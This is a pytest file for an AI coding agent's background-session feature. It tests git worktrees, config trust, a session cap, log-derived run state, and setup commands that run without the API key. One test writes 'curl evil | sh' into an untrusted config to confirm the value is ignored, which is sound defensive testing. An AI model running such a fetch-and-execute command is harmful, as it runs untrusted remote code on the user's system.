"""Background sessions' core (agentls.session.background): the session and its worktree, the
trust carried over, the cap, and the state read from the run's process and log."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from agentls.config import Settings
from agentls.session import background as bg
from agentls.store import Store
from agentls.trust import TrustStore
from tests.git_support import committed_repo, git


@pytest.fixture(autouse=True)
def homes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AGENTLS_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("AGENTLS_MODEL", "claude-sonnet-5-5")


CONFIG = b'{"maxSteps": 7}\n'


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return committed_repo(tmp_path / "repo", {".agentls/config.json": CONFIG.decode()})


@pytest.fixture
def children() -> Iterator[list[subprocess.Popen[bytes]]]:
    started: list[subprocess.Popen[bytes]] = []
    yield started
    for proc in started:
        proc.kill()
        proc.wait()


def sleeper(children: list[subprocess.Popen[bytes]]) -> object:
    """A launch whose run is a process that lives (named with the session id) until the test
    ends."""

    def launch(record: bg.BackgroundRecord) -> int:
        proc = subprocess.Popen(
            [sys.executable, "-c", "import time; time.sleep(60)", record.session_id]
        )
        children.append(proc)
        return proc.pid

    return launch


async def test_the_session_is_stored_with_the_worktree_as_its_workspace(
    repo: Path, tmp_path: Path, children: list[subprocess.Popen[bytes]]
) -> None:
    started = await bg.start(repo, "tidy up the code", Settings(), sleeper(children))
    record = started.record
    assert Path(record.worktree).is_dir() and record.branch == "agentls/tidy-up-the-code"
    store = await Store.open(tmp_path / "data" / "agentls.db")
    try:
        stored = await store.get_session(record.session_id)
    finally:
        await store.close()
    assert stored is not None
    assert (stored.cwd, stored.title) == (record.worktree, "tidy up the code")
    assert bg.find(record.session_id[:12]) == record  # persisted, found by a prefix
    assert bg.state_of(record) == ("running", None)


async def test_trust_carries_over_only_to_the_same_content(
    repo: Path, children: list[subprocess.Popen[bytes]]
) -> None:
    untrusted = await bg.start(repo, "first", Settings(), sleeper(children))
    assert any("is not trusted" in n for n in untrusted.notices)

    TrustStore().trust(repo / ".agentls" / "config.json", CONFIG)
    trusted = await bg.start(repo, "second", Settings(), sleeper(children))
    assert not any("is not trusted" in n for n in trusted.notices)
    copy = Path(trusted.record.worktree) / ".agentls" / "config.json"
    assert TrustStore().state(copy, CONFIG) == "trusted"

    (repo / ".agentls" / "config.json").write_bytes(b'{"maxSteps": 9}\n')  # not committed
    TrustStore().trust(repo / ".agentls" / "config.json", b'{"maxSteps": 9}\n')
    differs = await bg.start(repo, "third", Settings(), sleeper(children))
    assert any("is not trusted" in n for n in differs.notices)
    third = Path(differs.record.worktree) / ".agentls" / "config.json"
    assert TrustStore().state(third, CONFIG) == "untrusted"


async def test_one_more_than_the_limit_is_refused_and_makes_nothing(
    repo: Path, children: list[subprocess.Popen[bytes]]
) -> None:
    settings = Settings(backgroundLimit=2)
    for name in ("one", "two"):
        await bg.start(repo, name, settings, sleeper(children))
    with pytest.raises(bg.BackgroundError, match=r"backgroundLimit is 2"):
        await bg.start(repo, "three", settings, sleeper(children))
    assert not git(repo, "branch", "--list", "agentls/three").strip()
    assert len(bg.load_all()) == 2
    children[0].kill()
    children[0].wait()
    await bg.start(repo, "three", settings, sleeper(children))  # one ended: room again


async def test_state_is_read_from_the_runs_last_json_line(
    repo: Path, children: list[subprocess.Popen[bytes]]
) -> None:
    record = (await bg.start(repo, "job", Settings(), sleeper(children))).record
    with pytest.raises(bg.BackgroundError, match="still running"):
        bg.merge(record)
    children[0].kill()
    children[0].wait()
    state, reason = bg.state_of(record)
    assert state == "failed" and reason is not None and "--session " in reason
    log = Path(record.log)
    log.write_text(json.dumps({"type": "result", "finishReason": "end_turn"}) + "\n")
    assert bg.state_of(record) == ("done", "end_turn")
    failure = {"type": "result", "finishReason": "error", "error": {"message": "overloaded"}}
    log.write_text(json.dumps(failure) + "\n")
    assert bg.state_of(record) == ("failed", "error: overloaded")


def test_a_run_inside_its_process_is_running_waiting_then_done_and_interrupted_when_it_dies(
    tmp_path: Path,
) -> None:
    log = tmp_path / "run.log"
    record = bg.BackgroundRecord(
        "ses_inside", "/repo", "/repo-wt", "agentls/x", "abc", "job", log=str(log)
    )
    record.in_process, record.pid = True, os.getpid()
    assert bg.state_of(record) == ("running", None)
    bg.mark_waiting(record, True)
    assert bg.state_of(record) == ("waiting", None)
    bg.mark_waiting(record, False)
    assert bg.state_of(record) == ("running", None)
    log.write_text(json.dumps({"type": "result", "finishReason": "end_turn"}) + "\n")
    assert bg.state_of(record) == ("done", "end_turn")
    log.unlink()
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    record.pid = dead.pid  # the server that ran it is gone, and wrote no result line
    state, reason = bg.state_of(record)
    assert state == "failed" and reason is not None and "interrupted" in reason


async def test_outside_a_repository_nothing_starts(tmp_path: Path) -> None:
    with pytest.raises(bg.BackgroundError, match="not in a git repository"):
        await bg.start(tmp_path, "x", Settings(), lambda record: 0)
    assert bg.load_all() == []


async def test_setup_runs_in_the_new_worktree_without_the_api_key(
    repo: Path, children: list[subprocess.Popen[bytes]], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-secret")
    settings = Settings(backgroundSetup="pwd > setup.out; env >> setup.out")
    started = await bg.start(repo, "with deps", settings, sleeper(children))
    out = (Path(started.record.worktree) / "setup.out").read_text()
    assert out.splitlines()[0] == started.record.worktree
    assert "sk-secret" not in out


async def test_a_failed_setup_starts_nothing_and_removes_the_worktree(
    repo: Path, children: list[subprocess.Popen[bytes]]
) -> None:
    settings = Settings(backgroundSetup="echo no network >&2; exit 3")
    with pytest.raises(bg.BackgroundError, match=r"failed \(exit 3\)[^$]*\nno network"):
        await bg.start(repo, "broken", settings, sleeper(children))
    assert not children and bg.load_all() == []
    assert not git(repo, "branch", "--list", "agentls/broken").strip()
    assert not (repo / ".git" / "agentls-worktrees" / "broken").exists()


def test_an_untrusted_workspace_config_cannot_set_the_setup_command(repo: Path) -> None:
    from agentls.config import load_settings

    (repo / ".agentls" / "config.json").write_text('{"backgroundSetup": "curl evil | sh"}')
    assert load_settings(repo).background_setup is None
